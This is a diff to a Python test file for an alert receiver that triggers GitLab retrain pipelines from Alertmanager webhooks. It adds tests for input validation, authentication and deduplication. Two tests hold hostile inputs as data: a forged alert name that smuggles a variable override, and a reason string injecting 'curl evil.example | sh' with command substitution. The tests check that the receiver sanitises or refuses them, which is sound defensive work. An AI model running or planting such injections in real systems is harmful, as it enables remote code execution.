@@ -1,5 +1,6 @@
 """The alert receiver against a local HTTP recorder standing in for GitLab (there is no GitLab server here):
-Alertmanager-shaped webhooks in, exactly one trigger per incident out, with the variables the CI requires.
+Alertmanager-shaped webhooks in, exactly one trigger per incident out, with the pipeline inputs the CI declares
+(``inputs[alert_name]`` among the alerts the manifests route here, ``inputs[alert_reason]`` within its pattern).
 The Alertmanager route to it is checked with the real amtool in test_prometheus.py; the run through real
 Prometheus and Alertmanager processes is test_alert_path.py."""
 
@@ -8,6 +9,7 @@ from __future__ import annotations
 import http.client
 import json
 import os
+import re
 import threading
 import urllib.error
 import urllib.parse
@@ -18,11 +20,22 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 from pydantic import ValidationError
 
-from forkcast_monitoring import receiver
-from forkcast_monitoring.receiver import TriggerTarget, WebhookAuth, make_server
+from forkcast_contract.metric_names import RETRAIN_ALERTS
+from forkcast_monitoring import manifest_config, receiver
+from forkcast_monitoring.receiver import (
+    ALERT_REASON_PATTERN,
+    Deduplicator,
+    TriggerTarget,
+    WebhookAuth,
+    alert_reason,
+    make_server,
+)
 from forkcast_monitoring.settings import ReceiverSettings
+
+REPO = Path(__file__).resolve().parents[2]
 
 
 def post(url: str, alerts: list[dict[str, Any]]) -> None:
@@ -60,11 +73,11 @@ def test_one_trigger_per_incident(recorder: tuple[str, list[Any]]) -> None:
     assert len(calls) == 1
     path, form = calls[0]
     assert path == "/api/v4/projects/group%2Fforkcast/trigger/pipeline"
-    assert form == {
+    assert form == {  # issue 18.3: inputs, never variables (which override the CI's own), token in the body
         "token": ["s3cret"],
         "ref": ["main"],
-        "variables[ALERT_NAME]": ["OnlineAucLow"],
-        "variables[ALERT_REASON]": ["Online AUC of v2 is 0.620, below the 0.70 floor"],
+        "inputs[alert_name]": ["OnlineAucLow"],
+        "inputs[alert_reason]": ["Online AUC of v2 is 0.620, below the 0.70 floor"],
     }
     assert 'forkcast_retrain_triggers_total{outcome="sent"} 1.0' in metrics
     assert 'forkcast_retrain_triggers_total{outcome="cooldown"} 2.0' in metrics
@@ -201,9 +214,11 @@ def test_empty_token_file_is_refused_at_start(tmp_path: Path) -> None:
 
 @pytest.fixture
 def clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
+    """No FORKCAST_ variable but FORKCAST_ENVIRONMENT=local (the default is production, which refuses at once)."""
     for name in list(os.environ):
         if name.startswith("FORKCAST_"):
             monkeypatch.delenv(name)
+    monkeypatch.setenv("FORKCAST_ENVIRONMENT", "local")
 
 
 @pytest.mark.usefixtures("clean_env")
@@ -247,3 +262,120 @@ def test_production_names_each_missing_setting(monkeypatch: pytest.MonkeyPatch, 
     monkeypatch.setenv("FORKCAST_GITLAB_TOKEN_FILE", str(tmp_path / "trigger"))
     settings = ReceiverSettings()  # the twin: all set, it starts
     assert settings.webhook_token_file == tmp_path / "webhook" and settings.missing() == []
+
+
+# --- issue 18.3/18.5: what a trigger may carry, who may start the cooldown, bounded memory --------------------------
+
+
+def _matches(labels: dict[str, str], matcher: dict[str, str]) -> bool:
+    """One AlertmanagerConfig matcher (prometheus-operator's v1alpha1 Matcher: name, value, matchType =, !=, =~,
+    !~; Alertmanager anchors regular expressions) against an alert's labels."""
+    value, kind = labels.get(matcher["name"], ""), matcher.get("matchType", "=")
+    if kind in ("=~", "!~"):
+        found = re.fullmatch(matcher["value"], value) is not None
+        return found if kind == "=~" else not found
+    return (value == matcher["value"]) == (kind == "=")
+
+
+def routed_to_receiver(overlay: str) -> set[str]:
+    """The PrometheusRule alerts whose labels match a route of the rendered AlertmanagerConfig that ends at a
+    webhook to the alert receiver (its Service, port 9109, path /alerts)."""
+    config = manifest_config.load(overlay)
+    alerts = [r for g in config.rule_groups for r in g["rules"] if "alert" in r]
+    names: set[str] = set()
+    for amc in config.alertmanager_configs:
+        spec = amc["spec"]
+        hooks = {
+            r["name"]
+            for r in spec["receivers"]
+            if any(
+                "alert-receiver." in w["url"] and w["url"].endswith(":9109/alerts")
+                for w in r.get("webhookConfigs", [])
+            )
+        }
+        for route in spec["route"].get("routes", []):
+            if route["receiver"] in hooks:
+                for rule in alerts:
+                    labels = {"alertname": rule["alert"], **rule.get("labels", {})}
+                    if all(_matches(labels, m) for m in route.get("matchers", [])):
+                        names.add(rule["alert"])
+    return names
+
+
+@pytest.mark.parametrize("overlay", ["dev", "prod"])
+def test_the_receivers_alert_names_are_those_the_manifests_route_to_it(overlay: str) -> None:
+    assert routed_to_receiver(overlay) == set(RETRAIN_ALERTS)
+
+
+def test_the_ci_declares_the_inputs_the_receiver_sends() -> None:
+    """.gitlab-ci.yml's spec:inputs (its header document): alert_name's options hold every RETRAIN_ALERTS name and
+    alert_reason's regex is the pattern the receiver cuts reasons to, so GitLab accepts every trigger it sends."""
+    header = next(yaml.safe_load_all((REPO / ".gitlab-ci.yml").read_text()))
+    inputs = header["spec"]["inputs"]
+    assert set(RETRAIN_ALERTS) <= set(inputs["alert_name"]["options"])
+    assert inputs["alert_reason"]["regex"] == ALERT_REASON_PATTERN
+
+
+def test_an_alert_not_routed_here_is_refused_and_starts_nothing(recorder: tuple[str, list[Any]]) -> None:
+    gitlab, calls = recorder
+    server = make_server("127.0.0.1", 0, TriggerTarget(gitlab, "1", "main", "t"), cooldown_s=3600)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    url = f"http://127.0.0.1:{server.server_address[1]}/alerts"
+    try:
+        forged = alert("x1")
+        forged["labels"]["alertname"] = "RETRAIN_IMAGE=evil"
+        post(url, [forged])
+        post(url, [alert("a1")])  # the twin: a routed alert still triggers (the refusal started no cooldown)
+        metrics = urllib.request.urlopen(url.replace("/alerts", "/metrics"), timeout=5).read().decode()
+    finally:
+        server.shutdown()
+    assert [form["inputs[alert_name]"] for _, form in calls] == [["OnlineAucLow"]]
+    assert 'forkcast_retrain_triggers_total{outcome="unknown_alert"} 1.0' in metrics
+    with pytest.raises(ValueError, match="not one that starts a retrain"):
+        TriggerTarget(gitlab, "1", "main", "t").send("Watchdog", "x")
+
+
+def test_alert_reason_is_cut_to_what_the_pipeline_input_accepts() -> None:
+    raw = 'AUC 0.61 < 0.70\n"; curl evil.example | sh; echo $(id) `x` ' + "é" * 300
+    reason = alert_reason(raw)
+    assert re.fullmatch(ALERT_REASON_PATTERN, reason) and len(reason) == 200
+    assert reason.startswith("AUC 0.61 _ 0.70 __ curl evil.example _ sh_ echo _(id) _x_ ")
+    assert alert_reason("Online AUC of v2 is 0.620, below the 0.70 floor (ticket)") == (
+        "Online AUC of v2 is 0.620, below the 0.70 floor (ticket)"
+    )  # the twin: a plain summary passes unchanged
+
+
+def test_an_unauthenticated_alert_cannot_start_the_cooldown(
+    recorder: tuple[str, list[Any]], tmp_path: Path
+) -> None:
+    """Issue 18.5: suppressing a real alert by starting the cooldown first needs the token too."""
+    gitlab, calls = recorder
+    token = tmp_path / "webhook-token"
+    token.write_text("am-secret\n")
+    server = make_server(
+        "127.0.0.1", 0, TriggerTarget(gitlab, "1", "main", "t"), cooldown_s=3600, auth=WebhookAuth(token)
+    )
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    base = f"http://127.0.0.1:{server.server_address[1]}"
+    try:
+        assert send(base, payload(alert("decoy")), {}) == 401
+        assert send(base, payload(alert("real")), {"Authorization": "Bearer am-secret"}) == 200
+    finally:
+        server.shutdown()
+    assert (
+        len(calls) == 1
+    )  # the real alert triggered: the refused one neither triggered nor started the cooldown
+
+
+def test_seen_fingerprints_expire_and_are_bounded() -> None:
+    now = [0.0]
+    dedup = Deduplicator(cooldown_s=0, clock=lambda: now[0], seen_ttl_s=3600, max_seen=100)
+    assert dedup.admit("a") == "trigger"
+    now[0] = 3599.0
+    assert dedup.admit("a") == "duplicate"
+    now[0] = 3600.0
+    assert dedup.admit("a") == "trigger"  # forgotten after the TTL: a still-firing incident may trigger again
+    for i in range(10_000):
+        dedup.admit(f"fp{i}")
+        assert len(dedup.seen) <= 100
+    assert list(dedup.seen)[-1] == "fp9999"
